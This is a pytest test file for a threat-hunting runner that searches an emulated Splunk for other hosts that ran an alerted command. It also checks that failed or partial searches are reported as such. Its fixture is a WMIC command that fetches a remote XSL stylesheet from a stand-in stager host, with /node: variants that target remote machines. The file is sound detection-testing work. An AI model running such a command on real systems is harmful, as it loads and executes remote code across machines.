"""A hunt that was not run, or saw only a part, never reads as if nothing had been found."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from connectors.emulators.faults import HTML_502, QUOTA_503
from connectors.model import Alert, EventQuery, Observable, Row
from runner.config import Hunts
from runner.hunts import Found, elsewhere, event_of, event_query, evidence, spread_query
from tests.polling import NO_CANARY, polling_world, raw_hit, store_many
from tests.world import World
from tests.world_settings import SEARCH

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
URL = "https://stager.example.test/a.xsl"
CMDLINE = f'wmic os get /format:"{URL}"'
HUNTS = Hunts(index="main")
HUNT = """\
playbook: seen
description: Judge and look for the same elsewhere.
steps:
  - id: triage
    do: wmic.assess
    with: {alert: "{{ alert }}"}
  - id: spread
    do: hunt.spread
    with: {alert: "{{ alert }}", indicators: "{{ triage.indicators }}"}
  - stop: {reason: "{{ spread.outcome }}: {{ spread.summary }}"}
"""


def alert(**how: Any) -> Alert:
    given: dict[str, Any] = {"occurred_at": NOW, "cmdline": CMDLINE, "host": "WS-1", **how}
    return Alert(id="a", siem="splunk", search=SEARCH, raw={}, **given)


def row(host: str, at: datetime = NOW, **more: str) -> Row:
    return {"_time": at.isoformat(), "Computer": host, "cmdline": CMDLINE, "user": "kim", **more}


# -- what is asked ---------------------------------------------------------------------------------


def test_event_query_when_the_alert_says_enough_then_it_asks_closely() -> None:
    query = event_query(alert(), HUNTS)
    assert query is not None
    assert (query.start, query.end) == (NOW - timedelta(minutes=2), NOW + timedelta(minutes=2))
    assert [term.values for term in query.terms] == [(CMDLINE,), ("WS-1",)]
    assert {term.operator for term in query.terms} == {"equals"}


@pytest.mark.parametrize(
    ("how", "hunts"),
    [
        ({"occurred_at": None}, HUNTS),
        ({"cmdline": None}, HUNTS),
        ({"cmdline": ""}, HUNTS),
        ({}, Hunts(index=None)),
    ],
)
def test_event_query_when_too_little_is_known_then_nothing_is_asked(
    how: dict[str, Any], hunts: Hunts
) -> None:
    assert event_query(alert(**how), hunts) is None


def test_spread_query_when_there_is_an_address_then_only_whole_addresses_are_asked_for() -> None:
    found = spread_query(
        [Observable(type="domain", value="example.test"), Observable(type="url", value=URL)],
        HUNTS,
        NOW,
    )
    assert isinstance(found, EventQuery)
    assert found.terms[0].values == (URL,)
    assert found.start == NOW - timedelta(days=7)


@pytest.mark.parametrize(
    ("indicators", "hunts", "said"),
    [
        ([], HUNTS, "not searched: the command line names no address to look for"),
        (
            [Observable(type="domain", value="example.test")],
            HUNTS,
            "not searched: the command line names no address to look for",
        ),
        (
            [Observable(type="url", value=URL)],
            Hunts(),
            "not searched: hunts.index is not configured",
        ),
    ],
)
def test_spread_query_when_it_cannot_be_asked_then_not_searched(
    indicators: list[Observable], hunts: Hunts, said: str
) -> None:
    assert spread_query(indicators, hunts, NOW) == said


# -- what is read ----------------------------------------------------------------------------------


def test_event_when_one_is_found_then_its_own_host_name_is_known() -> None:
    found = event_of(alert(host="COLLECTOR"), Found(rows=(row("WS-7"),)), HUNTS)
    assert found is not None
    assert found.host == "WS-7"


@pytest.mark.parametrize(
    "found",
    [
        Found(),
        Found(rows=(row("WS-1"),), gap="incomplete: a peer is down"),
        Found(rows=(row("WS-1"), row("WS-2"))),
        Found(gap="not searched: x", was_run=False),
    ],
    ids=["nothing", "a gap", "two machines", "not run"],
)
def test_event_when_it_is_not_certain_then_there_is_none(found: Found) -> None:
    assert event_of(alert(), found, HUNTS) is None


def test_event_when_several_are_near_then_the_one_of_the_same_instant_counts() -> None:
    near = row("WS-2", NOW + timedelta(seconds=3))
    found = event_of(alert(), Found(rows=(near, row("WS-1"))), HUNTS)
    assert found is not None
    assert found.host == "WS-1"


def test_elsewhere_when_hosts_repeat_then_each_comes_once_earliest_first_and_not_our_own() -> None:
    rows: tuple[Row, ...] = (
        row("ws-1.example.test"),
        row("WS-3", NOW + timedelta(minutes=2)),
        row("WS-2", NOW + timedelta(minutes=1)),
        row("WS-3", NOW - timedelta(minutes=9)),
        row("ws-2$"),
        {"cmdline": CMDLINE},
    )
    found = elsewhere(alert(), Found(rows=rows), HUNTS)
    assert [str(one.host).lower() for one in found] == ["ws-3", "ws-2"]
    assert evidence(found[0])["at"] == NOW - timedelta(minutes=9)


# -- what a run says of it -------------------------------------------------------------------------


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with polling_world(tmp_path, NO_CANARY, playbook=HUNT) as found:
        found.clock.advance(600)
        yield found


def hunted(
    world: World,
    spoil: Callable[[World], None] | None = None,
    seconds: int = 400,
    cmdline: str = CMDLINE,
) -> str:
    """The result of the first run after a hit, however long its hunt takes."""
    event = raw_hit(1, "WS-1", cmdline)
    world.splunk.add_event(event, age_s=20, index_age_s=20)
    if spoil is not None:
        world.before.append(("POST /services/search/v2/jobs", lambda: spoil(world)))
    for _ in range(seconds // 20):
        world.clock.advance(10)
        world.tick(10)
        for run in world.runs():
            if run.result is not None:
                return run.result
    raise AssertionError(world.runs())


def test_spread_when_nobody_else_used_the_address_then_none_found(world: World) -> None:
    assert hunted(world).startswith("none_found: no other host used the same address")


def test_spread_when_others_used_it_then_they_are_named(world: World) -> None:
    world.splunk.add_event(
        raw_hit(2, "WS-2", CMDLINE) | {"Image": r"C:\renamed.exe"}, age_s=9000, index_age_s=9000
    )
    assert hunted(world).startswith(
        "found: the same address was used on 1 other host(s): WS-2; NOT seen: "
    )


def fatal(world: World) -> None:
    world.splunk.spoil_job(
        content={"isFailed": True, "dispatchState": "FAILED"}, messages=(("FATAL", "no license"),)
    )


def refused(world: World) -> None:
    world.splunk.misbehave(method="POST", path="*/search/v2/jobs", status=403, body="{}")


def endless(world: World) -> None:
    world.splunk.spoil_job(never_done=True)


def forgotten(world: World) -> None:
    world.splunk.misbehave(
        method="GET",
        path="*/search/v2/jobs/*",
        status=404,
        body='{"messages":[{"type":"FATAL","text":"Unknown sid."}]}',
        times=None,
    )


@pytest.mark.parametrize(
    ("spoil", "words"),
    [(fatal, "no license"), (refused, "403"), (endless, "ran for more than"), (forgotten, "lost")],
)
def test_spread_when_the_search_does_not_end_well_then_not_searched(
    world: World, spoil: Callable[[World], None], words: str
) -> None:
    result = hunted(world, spoil)
    assert result.startswith("not_searched: not searched: ")
    assert words in result
    assert "no other host" not in result


def partial(world: World) -> None:
    world.splunk.spoil_job(messages=(("WARN", "peer idx2 is down"),))


def test_spread_when_only_a_part_was_searched_then_incomplete_even_with_nothing_found(
    world: World,
) -> None:
    result = hunted(world, partial)
    assert result.startswith("incomplete: nothing found in what was searched; incomplete: ")
    assert "idx2" in result


def test_spread_when_there_are_more_events_than_it_takes_then_incomplete(world: World) -> None:
    store_many(world.splunk, 1100, host="WS-1", spread_s=9000)
    many = world.splunk.events[-1100:]
    for event in many:
        event.row.update(cmdline=CMDLINE, CommandLine=CMDLINE, process_name="other.exe")
    assert hunted(world).startswith("incomplete: nothing found in what was searched; ")


def quota(world: World) -> None:
    world.splunk.misbehave(QUOTA_503, method="POST", path="*/search/v2/jobs", times=2)


def proxy(world: World) -> None:
    world.splunk.misbehave(HTML_502, method="GET", path="*/search/v2/jobs/*", times=5)


def lost_once(world: World) -> None:
    world.before.append(("GET /services/search/v2/jobs/*", world.splunk.drop_jobs))


@pytest.mark.parametrize("spoil", [quota, proxy, lost_once])
def test_spread_when_splunk_comes_back_then_the_hunt_was_run(
    world: World, spoil: Callable[[World], None]
) -> None:
    assert hunted(world, spoil).startswith("none_found: ")


# -- what a process left behind --------------------------------------------------------------------


def dropped_by_it(world: World, host: str, image: str, **more: Any) -> None:
    raw = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": host,
        "User": r"EXAMPLE\user",
        "Image": image,
        "CommandLine": image,
        "ProcessGuid": f"{{0000aaaa-0000-4000-8000-{len(host):012x}}}",
        "Hashes": f"MD5={'b' * 32},SHA256={'a' * 64}",
        **more,
    }
    world.splunk.add_event(raw, age_s=60, index_age_s=60)


CHILD_OF_THE_ALERT = {"ParentProcessGuid": raw_hit(1, "WS-1")["ProcessGuid"]}


def test_spread_when_what_it_started_runs_elsewhere_then_found_by_its_hash(world: World) -> None:
    dropped_by_it(world, "WS-1", r"C:\Users\Public\a.exe", **CHILD_OF_THE_ALERT)
    dropped_by_it(world, "WS-22", r"C:\Users\Public\other-name.exe")
    said = "found: the same program was seen on 1 other host(s): WS-22; NOT seen: "
    assert hunted(world).startswith(said)


@pytest.mark.parametrize(
    ("image", "parent"),
    [
        (r"C:\Windows\System32\calc.exe", CHILD_OF_THE_ALERT),
        (r"C:\Program Files\Example\a.exe", CHILD_OF_THE_ALERT),
        (r"C:\Users\Public\a.exe", {"ParentProcessGuid": "{0000bbbb-0000-4000-8000-000000000001}"}),
    ],
)
def test_spread_when_a_program_is_everywhere_or_not_its_own_then_its_hash_is_no_lead(
    world: World, image: str, parent: dict[str, str]
) -> None:
    dropped_by_it(world, "WS-1", image, **parent)
    dropped_by_it(world, "WS-22", image)
    assert not hunted(world).startswith("found")


# -- machines in a file, and hosts that say nothing ------------------------------------------------


def test_spread_when_the_machines_stand_in_a_file_then_incomplete_and_said(world: World) -> None:
    line = rf'wmic /node:@C:\lists\all.txt os get /format:"{URL}"'
    result = hunted(world, cmdline=line)
    assert result.startswith("incomplete: nothing found in what was searched; incomplete: the mach")
    assert r"C:\lists\all.txt" in result


def test_spread_when_a_named_machine_says_nothing_then_blind_there(world: World) -> None:
    line = f'wmic /node:WS-77 os get /format:"{URL}"'
    result = hunted(world, cmdline=line)
    assert "WS-77: no Sysmon event in the window, so what ran there is not known" in result
